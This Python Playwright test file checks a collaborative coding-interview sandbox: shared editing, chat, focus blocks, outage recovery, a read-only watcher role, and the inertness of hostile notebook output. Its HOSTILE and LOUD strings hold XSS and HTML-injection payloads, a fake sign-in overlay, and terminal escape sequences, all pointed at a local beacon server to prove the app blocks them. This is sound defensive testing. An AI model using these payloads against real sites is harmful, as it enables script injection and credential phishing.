"""Several people in one room, in real browsers; and outputs that try to be more than outputs."""

from __future__ import annotations

import re
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from sandbox.core.outage import LEAST_MS
from tests.e2e.conftest import Person, Server, picture
from tests.e2e.test_interview import KERNEL_MS, editor, enter, to_probe, write

pytestmark = [pytest.mark.browser, pytest.mark.timeout(600)]
HIDDEN = "written while nobody watched"


@pytest.fixture
def third(browser: Browser) -> Iterator[Page]:
    context: BrowserContext = browser.new_context(viewport={"width": 1440, "height": 900})
    page = context.new_page()
    page.set_default_timeout(20_000)
    yield page
    context.close()


def invite(interviewer: Page, name: str, role: str) -> str:
    """The link of one more of the panel, made on the page for it."""
    page = interviewer.context.new_page()
    page.goto(interviewer.url.replace("/room/", "/arrangements/").replace("/interviewer", ""))
    page.get_by_test_id("member-name").fill(name)
    page.get_by_test_id("member-role").select_option(role)
    page.get_by_test_id("invite").click()
    expect(page.get_by_test_id("member").filter(has_text=name)).to_be_visible()
    link = page.get_by_test_id("link-member").input_value()
    picture(page, "arrangements")
    page.close()
    return link


def to_the_files(candidate: Page, interviewer: Page) -> None:
    """Nothing is run there, so nobody waits for a kernel."""
    interviewer.get_by_test_id("stage-filter").click()
    expect(candidate.get_by_test_id("summary")).to_be_visible()
    interviewer.get_by_test_id("stage-probe").click()
    expect(editor(candidate)).to_be_visible(timeout=KERNEL_MS)


def end_of(page: Page) -> None:
    editor(page).click()
    page.keyboard.press("Control+End")


def test_two_interviewers_and_a_candidate(server: Server, people: list[Person], third: Page) -> None:
    candidate, robin = enter(server, people)
    sam = third
    sam.goto(invite(robin, "Sam", "interviewer"))
    expect(sam.get_by_text("Casey").first).to_be_visible(timeout=KERNEL_MS)
    to_the_files(candidate, robin)
    expect(candidate.get_by_test_id("watched")).to_have_text("2 are watching: Robin, Sam")

    # Follow: the file, the part of it, and what is selected.
    write(candidate, "".join(f"line_{number} = {number}\n" for number in range(200)))
    candidate.get_by_test_id("editor").locator(".cm-scroller").evaluate("node => node.scrollTop = 2000")
    part = robin.get_by_test_id("editor").locator(".cm-line").filter(has_text="line_100 = 100")
    expect(part).to_be_in_viewport()
    end_of(candidate)
    candidate.keyboard.press("Shift+Home")
    candidate.keyboard.press("Shift+ArrowUp")
    for page in (robin, sam):
        expect(page.get_by_test_id("editor").locator(".cm-ySelection").first).to_be_visible()
    candidate.get_by_role("tab", name="scratch.py").click()
    for page in (robin, sam):
        expect(page.get_by_role("tab", name="scratch.py")).to_have_attribute("aria-selected", "true")

    # Editing together: off until it is switched on, told to the candidate, under one's own name.
    write(candidate, "# scratch\n")
    expect(editor(sam)).to_have_attribute("contenteditable", "false")
    robin.get_by_test_id("arrange").click()
    robin.get_by_test_id("co-edit").check()
    expect(candidate.get_by_test_id("co-edit-banner")).to_contain_text("Robin and Sam can type")
    end_of(sam)
    sam.keyboard.type("# a hint from Sam")
    expect(editor(candidate)).to_contain_text("# a hint from Sam")
    sam.keyboard.press("ArrowLeft")
    expect(candidate.locator(".cm-ySelectionInfo").filter(has_text="Sam")).to_be_attached()
    picture(candidate, "edit-together")
    robin.get_by_test_id("co-edit").uncheck()
    expect(editor(sam)).to_have_attribute("contenteditable", "false")

    # Chat: counted while it is folded, read by all.
    candidate.get_by_test_id("chat-toggle").click()
    candidate.get_by_test_id("chat-input").fill("May I have some quiet minutes?")
    candidate.keyboard.press("Enter")
    candidate.keyboard.press("Escape")
    for page in (robin, sam):
        chat = page.get_by_role("tab", name=re.compile("Chat"))
        expect(chat).to_contain_text("1")
        chat.click()
        expect(page.get_by_test_id("chat-message")).to_contain_text("quiet minutes")
        expect(chat).not_to_contain_text("1")
    robin.get_by_test_id("chat-input").fill("Of course.")
    robin.get_by_test_id("chat-send").click()
    expect(candidate.get_by_test_id("chat-unread")).to_contain_text("1")
    picture(robin, "chat")

    # A focus block: nobody sees, until it is over.
    candidate.get_by_test_id("ask-focus").click()
    robin.get_by_test_id("grant-focus").click()
    expect(candidate.get_by_test_id("watched")).to_contain_text("Nobody is watching")
    end_of(candidate)
    candidate.keyboard.type(f"\n# {HIDDEN}")
    expect(candidate.get_by_test_id("saved")).to_have_text("Saved")
    for page in (robin, sam):
        expect(page.get_by_test_id("focus-banner")).to_be_visible()
        expect(editor(page)).not_to_contain_text(HIDDEN)
    picture(candidate, "focus-candidate")
    picture(robin, "focus-interviewer")
    candidate.get_by_test_id("end-focus").click()
    for page in (robin, sam):
        expect(editor(page)).to_contain_text(HIDDEN)

    # An outage: given back by itself, and both read why.
    server.kill()
    expect(candidate.get_by_test_id("connection")).to_contain_text(re.compile("reconnect", re.I))
    time.sleep(LEAST_MS / 1000 + 1)
    server.start()
    for page in (candidate, robin):
        expect(page.get_by_test_id("credit")).to_contain_text(
            re.compile(r"0:\d\d given back: .*the server was down"), timeout=30_000
        )

    # Signals and follow-up questions, as the panel sees them.
    robin.get_by_role("tab", name=re.compile("Signals")).click()
    expect(robin.get_by_text("Signals, not verdicts.")).to_be_visible()
    picture(robin, "signals")
    robin.get_by_role("tab", name="Rubric").click()
    robin.get_by_text("Ask next").first.click()
    picture(robin, "follow-ups")
    robin.emulate_media(color_scheme="dark")
    picture(robin, "follow-ups-dark")
    candidate.emulate_media(color_scheme="dark")
    picture(candidate, "together-dark")


def test_somebody_who_looks_on_sees_the_work_and_can_touch_nothing(
    server: Server, people: list[Person], third: Page
) -> None:
    candidate, robin = enter(server, people)
    third.goto(invite(robin, "Lee", "watcher"))
    to_the_files(candidate, robin)
    write(candidate, "# for all to see\n")
    expect(editor(third)).to_contain_text("for all to see")
    expect(editor(third)).to_have_attribute("contenteditable", "false")
    expect(third.get_by_text("Guide")).to_have_count(0)
    expect(third.get_by_role("button", name=re.compile("Judge|Mark|Finish"))).to_have_count(0)
    picture(third, "watcher")


class Beacon:
    """A web server that hears whatever leaves a page."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        heard = self.heard

        class Listener(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, format: str, *args: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
        self.base = f"http://127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def beacon() -> Iterator[Beacon]:
    listening = Beacon()
    yield listening
    listening.close()


LOUD = (
    "<script>parent.pwned = top.pwned = 1; new Image().src = 'BEACON/js'</script>"
    "<img src='BEACON/img' onerror='top.pwned = 2'><link rel=stylesheet href='BEACON/css'>"
    "<style>body { background: url(BEACON/bg) }</style><iframe src='BEACON/frame'></iframe>"
)
HOSTILE = f"""
from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML({LOUD!r}))
display(HTML("<base href='BEACON/'><meta http-equiv=refresh content='0;url=BEACON/meta'>"))
display(HTML("<form action='BEACON/form'><input name=password autofocus></form>"
             "<a id=config href='BEACON/link' target=_top "
             "style='position:fixed;inset:0;z-index:99999'>Session expired, sign in</a>"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='top.pwned = 3'><script>top.pwned = 4</script>"
            "<image href='BEACON/svg'/></svg>"))
display(Javascript("top.pwned = 5"))
display(Markdown("[click](javascript:top.pwned=6) <img src=x onerror='top.pwned=7'>"))
print("\\x1b]8;;BEACON/osc8\\x07a false label\\x1b]8;;\\x07")
print("\\x1b]52;c;cHduZWQ=\\x07 \\x1b]0;title\\x07")
print("\\x1b[6n\\x1b[c\\x1b[31mred\\x1b[0m <b>not bold</b>")
print("the end")
"""


def test_outputs_are_inert_on_every_page_that_shows_them(
    server: Server, people: list[Person], third: Page, beacon: Beacon
) -> None:
    """K01, K02, K03 and K10: nothing is fetched, run, navigated to or written outside its own frame."""
    candidate, robin = enter(server, people)
    to_probe(candidate, robin)
    dialogs: list[str] = []
    for page in (candidate, robin):
        page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    addresses, titles = [page.url for page in (candidate, robin)], [candidate.title(), robin.title()]
    write(candidate, HOSTILE.replace("BEACON", beacon.base))
    candidate.get_by_test_id("run-file").click()
    for page in (candidate, robin):
        output = page.get_by_test_id("output")
        expect(output).to_contain_text("the end", timeout=KERNEL_MS)
        expect(output).to_contain_text("<b>not bold</b>")
        expect(output.locator("iframe")).to_have_count(3)
        for frame in output.locator("iframe").all():
            frame.scroll_into_view_if_needed()  # Chromium draws, and so loads, no frame out of sight
            page.wait_for_timeout(500)  # what would be fetched, would be by now
            assert frame.get_attribute("sandbox") == ""
            box, around = frame.bounding_box(), output.bounding_box()
            assert box is not None
            assert around is not None
            assert box["width"] <= around["width"]
        assert output.locator("script, form, base, a[href]").count() == 0
        assert page.evaluate("window.pwned") is None
    picture(robin, "hostile-output")
    assert beacon.heard == []
    assert dialogs == []
    assert [page.url for page in (candidate, robin)] == addresses
    assert [candidate.title(), robin.title()] == titles

    # The same text in a page of its own is heard, so the silence above means something.
    third.set_content(LOUD.replace("BEACON", beacon.base))
    third.wait_for_timeout(500)
    assert {"/js", "/img", "/css", "/bg", "/frame"} <= set(beacon.heard)
    assert third.evaluate("window.pwned") is not None

    # A page whose frames tried to load something says so in its console; that is the policy at work.
    for person in people:
        person.complaints[:] = [
            one for one in person.complaints if beacon.base not in one and "srcdoc" not in one
        ]
